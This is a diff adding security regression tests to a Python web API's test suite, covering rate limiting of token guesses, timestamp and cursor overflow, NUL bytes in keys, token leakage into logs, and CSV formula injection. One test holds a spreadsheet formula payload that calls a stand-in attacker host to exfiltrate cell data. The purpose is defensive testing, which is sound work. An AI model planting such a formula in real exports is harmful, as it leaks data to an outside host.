@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
+from collections import OrderedDict
 from collections.abc import AsyncIterator, Iterator
 from typing import Any
 from uuid import UUID
@@ -10,8 +13,10 @@ from uuid import UUID
 import httpx
 import pytest
 from starlette.requests import Request
+from starlette.testclient import TestClient
+from structlog.testing import capture_logs
 
-from api_site import WEB_URL, ApiSite, api_site
+from api_site import SECRET, WEB_URL, ApiSite, api_site
 from cloudpush.audit.access import AccessBook
 from cloudpush.errors import AccessError, CloudPushError, Code
 from cloudpush.push.access.model import ALL_SCOPES, Role
@@ -19,6 +24,8 @@ from cloudpush.push.access.ports import Submitter
 from cloudpush.push.access.tokens import digest, new_token
 from cloudpush.stack.services import OpenBao, Valkey
 from cloudpush.web.api import progress, turns
+from cloudpush.web.api.limits import FAILURES
+from cloudpush.web.api.paging import encode
 from cloudpush.web.live import Streams
 from servers import Database
 
@@ -244,3 +251,77 @@ def test_nothing_of_anothers_is_named_in_a_request_of_ones_own(site: ApiSite) ->
     for theirs in (str(hook), "hook", "bob@lab/hook"):
         answer = mallory.post("/v1/pushes", json={**urls, "resign_hook": theirs})
         assert answer.json()["code"] == Code.UNKNOWN_CREDENTIAL, answer.text
+
+
+@pytest.mark.parametrize("field", ["expires_at", "purge_after"])
+@pytest.mark.parametrize("moment", ["9999-12-31T23:59:59-14:00", "9999-12-31T00:00:00Z"])
+def test_no_credential_has_a_time_that_nobody_can_read_again(site: ApiSite, field: str, moment: str) -> None:
+    """Postgres has a year 10000 and Python none: one user's credential made everybody's list of them a defect for ever."""
+    mallory, auditor = site.client("mallory@lab"), site.client("eve@lab", Role.AUDITOR)
+    body = {"name": f"{field} {moment}", "secret": SECRET, field: moment}
+    answer = mallory.post("/v1/credentials", json=body)
+    assert (answer.status_code, answer.json()["code"]) == (422, Code.BAD_INPUT)
+    assert mallory.get("/v1/credentials").status_code == 200
+    assert auditor.get("/v1/credentials").status_code == 200
+    assert auditor.get("/v1/audit/exports/credentials?format=parquet").status_code == 200
+
+
+@pytest.mark.parametrize("number", [2**31, 2**63 - 1, -(2**31) - 1])
+def test_no_cursor_is_beyond_what_the_database_counts_to(site: ApiSite, number: int) -> None:
+    """Checkpoints are numbered in 32 bits: a cursor of 33 was a defect."""
+    auditor = site.client("eve@lab", Role.AUDITOR)
+    answer = auditor.get(f"/v1/audit/checkpoints?cursor={encode(number)}")
+    assert answer.status_code in (200, 422), answer.text
+
+
+def test_no_profile_of_a_credential_is_a_formula(site: ApiSite) -> None:
+    """Its owner writes it, and an auditor's spreadsheet worked it out."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"profile")'
+    body = {"name": "formula", "secret": SECRET, "profile": formula}
+    assert site.client("mallory@lab").post("/v1/credentials", json=body).status_code == 201
+    text = site.client("eve@lab", Role.AUDITOR).get("/v1/audit/exports/credentials").text
+    assert {row["profile"] for row in csv.DictReader(io.StringIO(text, newline=""))} >= {f"'{formula}"}
+
+
+def test_no_submission_token_is_for_a_key_that_nobody_can_store(site: ApiSite) -> None:
+    """It was signed, and every worker refused it: who asked for it never heard why."""
+    ada = site.client("ada@lab")
+    body = {"request": site.body(site.credential("ada@lab")), "idempotency_key": "a\0b"}
+    answer = ada.post("/v1/submission-tokens", json=body)
+    assert (answer.status_code, answer.json()["field"]) == (422, "idempotency_key")
+
+
+def test_whoever_guesses_tokens_shuts_nobody_out_who_shares_the_address(site: ApiSite) -> None:
+    """Behind a proxy all share one: who sent it a wrong token each second had everybody answered 429."""
+    ada, guesser = (TestClient(site.app, base_url=WEB_URL, client=("192.0.2.7", 1)) for _ in range(2))
+    ada.headers["authorization"] = f"Bearer {site.token('ada@lab')}"
+    assert ada.get("/v1/me").status_code == 200
+    guesser.headers["authorization"] = f"Bearer {new_token()}"
+    asked = [guesser.get("/v1/me").status_code for _ in range(FAILURES.burst + 5)]
+    assert set(asked) == {401, 429}
+    site.services.access._kept._found = OrderedDict(
+        (key, (0.0, who)) for key, (_, who) in site.services.access._kept._found.items()
+    )  # two seconds pass
+    assert ada.get("/v1/me").status_code == 200
+    assert guesser.get("/v1/me").status_code == 429
+
+
+def test_whoever_sends_wrong_tokens_with_long_bodies_is_counted_as_well(site: ApiSite) -> None:
+    """Beyond 64 KiB the token was looked up before anything was counted: guesses without end, and Postgres asked for each."""
+    guesser = TestClient(site.app, base_url=WEB_URL, client=("192.0.2.9", 1))
+    long = {"pushes": [{"source": "x" * 70_000}]}
+    asked = [
+        guesser.post("/v1/pushes/batch", json=long, headers={"authorization": f"Bearer {new_token()}"}).status_code
+        for _ in range(FAILURES.burst + 5)
+    ]
+    assert set(asked) == {401, 429}
+
+
+def test_no_token_in_a_path_is_logged(site: ApiSite) -> None:
+    """Who revokes a token by its text, and not by its id, had it written into the log, good as it was."""
+    token = new_token()
+    with capture_logs() as heard:
+        site.client("ada@lab").delete(f"/v1/tokens/{token}")
+        site.client().get(f"/pushes/{token}")
+    assert [line["event"] for line in heard].count("served") == 2
+    assert token not in str(heard)
